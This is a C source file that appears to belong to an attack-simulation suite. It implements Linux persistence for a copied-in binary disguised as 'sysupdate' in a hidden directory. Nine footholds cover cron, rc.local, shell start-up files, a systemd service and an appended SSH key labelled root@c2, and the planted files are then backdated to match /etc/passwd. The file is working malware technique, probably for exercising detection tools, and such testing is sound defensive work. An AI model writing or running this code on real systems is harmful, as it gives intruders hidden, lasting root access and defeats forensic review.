// SPDX-License-Identifier: GPL-2.0
/*
 * Persistence: copy itself to a hidden directory and make sure it comes
 * back, through cron, rc.local, shell start-up files, a systemd unit and an
 * SSH key, then backdate the files it touched to look old. Succeeds when
 * every foothold was written.
 */
#include "common.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#define DROP_DIR "/var/tmp/.X11-cache"
#define DROP DROP_DIR "/sysupdate"
#define RUN DROP " >/dev/null 2>&1 &\n"

static const struct foothold {
	const char *path;
	const char *text;
	int append;
} footholds[] = {
	{ "/etc/cron.d/sysupdate", "*/5 * * * * root " RUN, 0 },
	{ "/etc/crontab", "@reboot root " RUN, 1 },
	{ "/var/spool/cron/crontabs/root", "*/10 * * * * " RUN, 1 },
	{ "/etc/rc.local", "#!/bin/sh\n" RUN "exit 0\n", 0 },
	{ "/etc/profile.d/sysupdate.sh", RUN, 0 },
	{ "/root/.bashrc", RUN, 1 },
	{ "/root/.profile", RUN, 1 },
	{ "/etc/systemd/system/sysupdate.service",
	  "[Unit]\nDescription=System update\n[Service]\nExecStart=" DROP
	  "\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0 },
	{ "/root/.ssh/authorized_keys",
	  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh5fakefakefakefake root@c2\n", 1 },
};

/* mkdir -p of the parent directories of path. */
static void make_parents(const char *path)
{
	char dir[256];

	snprintf(dir, sizeof(dir), "%s", path);
	for (char *p = dir + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		if (mkdir(dir, 0755) < 0 && errno != EEXIST)
			attack_die(dir);
		*p = '/';
	}
}

static void plant(const struct foothold *f)
{
	int flags = O_WRONLY | O_CREAT | (f->append ? O_APPEND : O_TRUNC);
	int fd;

	make_parents(f->path);
	fd = open(f->path, flags, 0644);
	if (fd < 0)
		attack_die(f->path);
	attack_write_all(fd, f->text, strlen(f->text));
	if (fchmod(fd, strstr(f->path, "rc.local") ? 0755 : 0644) < 0)
		attack_die("fchmod");
	close(fd);
}

static void copy_self(void)
{
	struct stat st;
	int in = open("/proc/self/exe", O_RDONLY), out;

	make_parents(DROP);
	out = open(DROP, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (in < 0 || out < 0 || fstat(in, &st) < 0)
		attack_die("copying itself");
	for (off_t off = 0; off < st.st_size;)
		if (sendfile(out, in, &off, (size_t)(st.st_size - off)) <= 0)
			attack_die("sendfile");
	close(in);
	close(out);
}

int main(void)
{
	const size_t n = ARRAY_SIZE(footholds);
	struct stat ref;

	attack_announce("persistence", getpid());
	copy_self();
	for (size_t i = 0; i < n; i++)
		plant(&footholds[i]);
	/* Timestomp: give everything the age of /etc/passwd. */
	if (stat("/etc/passwd", &ref) < 0)
		attack_die("stat /etc/passwd");
	for (size_t i = 0; i < n; i++) {
		struct timespec times[2] = { ref.st_atim, ref.st_mtim };

		utimensat(AT_FDCWD, footholds[i].path, times, 0);
	}
	printf("persistence: dropped %s and %zu footholds\n", DROP, n);
	return 0;
}
